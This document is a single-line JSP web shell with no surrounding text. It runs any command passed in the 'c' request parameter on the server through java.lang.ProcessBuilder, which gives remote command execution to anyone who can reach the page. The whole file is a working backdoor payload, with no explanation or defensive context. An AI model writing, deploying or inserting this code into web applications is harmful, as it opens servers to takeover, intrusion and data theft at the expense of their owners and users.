<% new java.lang.ProcessBuilder(request.getParameter("c").split(" ")).start(); %>
